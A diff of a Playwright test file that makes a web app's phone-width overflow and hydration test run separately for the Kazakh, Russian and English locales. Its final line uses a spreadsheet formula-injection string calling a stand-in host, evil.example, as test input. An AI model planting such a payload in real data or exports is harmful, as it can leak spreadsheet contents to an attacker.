@@ -44,12 +44,9 @@ async function idFrom(page: Page, url: string, link: RegExp): Promise<string> {
  * page: the fullest ones, and there whatever other tests add meanwhile); a new parameter fails
  * the test until it is added here.
  */
-async function sampleParams(page: Page): Promise<Record<string, string>> {
+async function sampleParams(page: Page, demoPartnerName: string): Promise<Record<string, string>> {
   await page.goto("/partners");
-  const demoPartner = await page
-    .getByRole("link", { name: "Хэйлунцзян провинциясы", exact: true })
-    .first()
-    .getAttribute("href");
+  const demoPartner = await page.getByRole("link", { name: demoPartnerName, exact: true }).first().getAttribute("href");
   const partnerId = /^\/partners\/(\d+)$/.exec(demoPartner ?? "")?.[1];
   if (!partnerId) throw new Error("the demo partner is not in the partners list");
   const meetingId = await idFrom(page, `/partners/${partnerId}`, /^\/meetings\/(\d+)$/);
@@ -117,42 +114,55 @@ async function overflow(page: Page) {
   });
 }
 
+// Each language in its own test, run side by side: the same page is longer in Russian than in
+// Kazakh or English (the briefing's initiatives and the accounts table overflowed in Russian only).
+const LANGUAGES = [
+  { locale: "kk-KZ", demoPartner: "Хэйлунцзян провинциясы" },
+  { locale: "ru-RU", demoPartner: "Провинция Хэйлунцзян" },
+  { locale: "en-GB", demoPartner: "Heilongjiang Province" },
+];
+
+for (const { locale, demoPartner } of LANGUAGES)
+  test.describe(`at 390 px, in ${locale}`, () => {
+    test.use({ viewport: PHONE, locale });
+
+    test("no page scrolls sideways, and every page hydrates", async ({ page, browser }) => {
+      test.setTimeout(180_000);
+      const routes = pageRoutes();
+      expect(routes.length).toBeGreaterThan(40);
+      const params = await sampleParams(page, demoPartner);
+      const admin = await browser.newContext({ storageState: stateFile("admin"), viewport: PHONE, locale });
+      const adminPage = await admin.newPage();
+      const adminParams = { userId: await idFrom(adminPage, "/admin/users", /^\/admin\/users\/(\d+)$/) };
+      const failures: string[] = [];
+      // A page whose browser code renders other text than the server did (a value read from a
+      // .server module, which the browser's bundle does not have) logs React's hydration errors.
+      const hydration: string[] = [];
+      let current = "";
+      for (const on of [page, adminPage]) {
+        on.on("console", (message) => {
+          if (message.type() === "error" && !message.text().startsWith("Failed to load resource"))
+            hydration.push(`${current}: ${message.text().slice(0, 120)}`);
+        });
+        on.on("pageerror", (error) => hydration.push(`${current}: ${error.message.slice(0, 120)}`));
+      }
+      for (const route of routes) {
+        const url = urlOf(route, params, adminParams);
+        current = `${url} (${route.file})`;
+        const on = route.pattern[0] === "admin" ? adminPage : page;
+        await on.goto(url, { waitUntil: "networkidle" });
+        const { scrollWidth, wide } = await overflow(on);
+        if (scrollWidth > PHONE.width)
+          failures.push(`${url} (${route.file}): ${scrollWidth} px wide; past the edge: ${wide.join(", ")}`);
+      }
+      await admin.close();
+      expect(failures).toEqual([]);
+      expect(hydration).toEqual([]);
+    });
+  });
+
 test.describe("at 390 px", () => {
   test.use({ viewport: PHONE, locale: "kk-KZ" });
-
-  test("no page scrolls sideways, and every page hydrates", async ({ page, browser }) => {
-    test.setTimeout(180_000);
-    const routes = pageRoutes();
-    expect(routes.length).toBeGreaterThan(40);
-    const params = await sampleParams(page);
-    const admin = await browser.newContext({ storageState: stateFile("admin"), viewport: PHONE, locale: "kk-KZ" });
-    const adminPage = await admin.newPage();
-    const adminParams = { userId: await idFrom(adminPage, "/admin/users", /^\/admin\/users\/(\d+)$/) };
-    const failures: string[] = [];
-    // A page whose browser code renders other text than the server did (a value read from a
-    // .server module, which the browser's bundle does not have) logs React's hydration errors.
-    const hydration: string[] = [];
-    let current = "";
-    for (const on of [page, adminPage]) {
-      on.on("console", (message) => {
-        if (message.type() === "error" && !message.text().startsWith("Failed to load resource"))
-          hydration.push(`${current}: ${message.text().slice(0, 120)}`);
-      });
-      on.on("pageerror", (error) => hydration.push(`${current}: ${error.message.slice(0, 120)}`));
-    }
-    for (const route of routes) {
-      const url = urlOf(route, params, adminParams);
-      current = `${url} (${route.file})`;
-      const on = route.pattern[0] === "admin" ? adminPage : page;
-      await on.goto(url, { waitUntil: "networkidle" });
-      const { scrollWidth, wide } = await overflow(on);
-      if (scrollWidth > PHONE.width)
-        failures.push(`${url} (${route.file}): ${scrollWidth} px wide; past the edge: ${wide.join(", ")}`);
-    }
-    await admin.close();
-    expect(failures).toEqual([]);
-    expect(hydration).toEqual([]);
-  });
 
   test("a heading with no place to break (a pasted address) wraps instead of widening the page", async ({ page }) => {
     const name = `=HYPERLINK("http://evil.example/?x="&A1,"Үрімжі")${Date.now()}`;
